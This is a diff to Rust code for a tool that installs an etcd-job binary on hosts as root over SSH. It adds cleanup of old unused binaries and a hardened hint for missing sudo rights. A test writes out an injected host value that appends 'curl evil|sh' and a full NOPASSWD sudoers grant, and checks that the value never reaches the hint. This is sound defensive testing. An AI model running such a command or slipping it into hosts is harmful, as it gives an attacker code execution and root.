@@ -28,7 +28,8 @@ sum=$($sudo sha256sum "$2" 2>/dev/null)
 if [ "${sum%% *}" = "$1" ]; then say program yes; else say program no; fi
 "#;
 
-/// Puts what comes on standard input where the program belongs, as root. `$1`: the folder, `$2`: the digest.
+/// Puts what comes on standard input where the program belongs, as root, and removes those of other versions that nobody
+/// uses. `$1`: the folder, `$2`: the digest.
 pub(super) const BRING: &str = r#"
 set -eu
 umask 077
@@ -43,6 +44,17 @@ chmod 700 "$new"
 sync "$new" 2>/dev/null || sync
 mv -f "$new" "$1/etcd-job-$2"
 sync "$1" 2>/dev/null || sync
+# Programs of other versions go, unless a process runs one or a plan that was begun here may have to.
+if [ ! -e "$1/../plans/current" ]; then
+  for old in "$1"/etcd-job-*; do
+    used=
+    if [ "$old" = "$1/etcd-job-$2" ]; then continue; fi
+    for exe in /proc/[0-9]*/exe; do
+      if [ "$exe" -ef "$old" ]; then used=yes; break; fi
+    done
+    if [ -z "$used" ]; then rm -f -- "$old"; fi
+  done
+fi
 "#;
 
 /// What a look at a host told.
@@ -115,8 +127,12 @@ pub(super) fn seen(host: &str, printed: &str, carried: &Carried) -> Result<Seen,
         let message = format!(
             "{host}: the work needs root: passwordless sudo for {user}, or --ssh-user root (sudo says: {why})"
         );
+        // No line to be run as root is made of what a host prints.
         return Err(SshError::new(SshErrorKind::NeedsRoot, message).hint(format!(
-            "as root on that host: echo '{user} ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/{user}"
+            "log in as root: --ssh-user root, or --ssh NODE=root@ADDRESS. Else an administrator of that host allows this user \
+             `sh`, `sha256sum`, `true` and `{}` without a password, in a file of /etc/sudoers.d whose name has no dot (visudo -f \
+             /etc/sudoers.d/kubectl-etcd): whoever may run them there can do everything",
+            path()
         )));
     }
     Ok(Seen {
@@ -178,6 +194,38 @@ mod tests {
         assert!(output.stdout.starts_with(b"etcd-job "), "{output:?}");
     }
 
+    #[test]
+    fn programs_of_other_versions_go_when_one_is_brought_unless_they_are_in_use() {
+        let state = tempfile::tempdir().unwrap();
+        let place = state.path().join("bin");
+        let named = |name: &str| place.join(format!("etcd-job-{name}"));
+        let folder = place.to_str().unwrap();
+        let digest = carried().digest;
+        let bring = || {
+            let brought = run(&["sh", "-c", BRING, "sh", folder, digest], bytes().unwrap());
+            assert!(brought.status.success(), "{brought:?}");
+        };
+        bring();
+        std::fs::write(named("old"), "old").unwrap();
+        std::fs::write(place.join("theirs"), "x").unwrap();
+        std::fs::copy("/bin/sleep", named("running")).unwrap();
+        let mut running = Command::new(named("running")).arg("100").spawn().unwrap();
+        // A plan was begun by one of them.
+        let plans = state.path().join("plans");
+        std::fs::create_dir(&plans).unwrap();
+        std::fs::write(plans.join("current"), "x").unwrap();
+        bring();
+        assert!(named("old").exists());
+        std::fs::remove_file(plans.join("current")).unwrap();
+        bring();
+        assert!(!named("old").exists() && named("running").exists());
+        assert!(place.join("theirs").exists() && named(digest).exists());
+        running.kill().unwrap();
+        running.wait().unwrap();
+        bring();
+        assert!(!named("running").exists() && named(digest).exists());
+    }
+
     fn printed(lines: &[&str]) -> String {
         let lines = lines.iter().map(|line| format!("{MARK}{line}\n"));
         format!("Welcome!\n{}", lines.collect::<String>())
@@ -193,6 +241,22 @@ mod tests {
         let no = of(&no).unwrap_err();
         assert_eq!(no.kind, SshErrorKind::NeedsRoot);
         assert!(no.message.contains("--ssh-user root") && no.message.contains("a password"));
+        let hostile = [
+            "uid=1000",
+            "user=x ALL=(ALL) NOPASSWD: ALL; curl evil|sh",
+            "system=Linux",
+            "machine=x86_64",
+        ];
+        let hostile = of(&[&hostile[..], &["sudo=no", "why="]].concat()).unwrap_err();
+        let hint = hostile.hint.unwrap();
+        assert!(
+            !hint.contains("evil") && !hint.contains("NOPASSWD"),
+            "{hint}"
+        );
+        assert!(
+            hint.contains(&path()) && hint.contains("--ssh NODE=root@ADDRESS"),
+            "{hint}"
+        );
         let arm = of(&["uid=0", "user=root", "system=Linux", "machine=aarch64"]).unwrap_err();
         assert_eq!(arm.kind, SshErrorKind::OtherSystem);
         assert!(arm.message.contains("aarch64"), "{arm}");
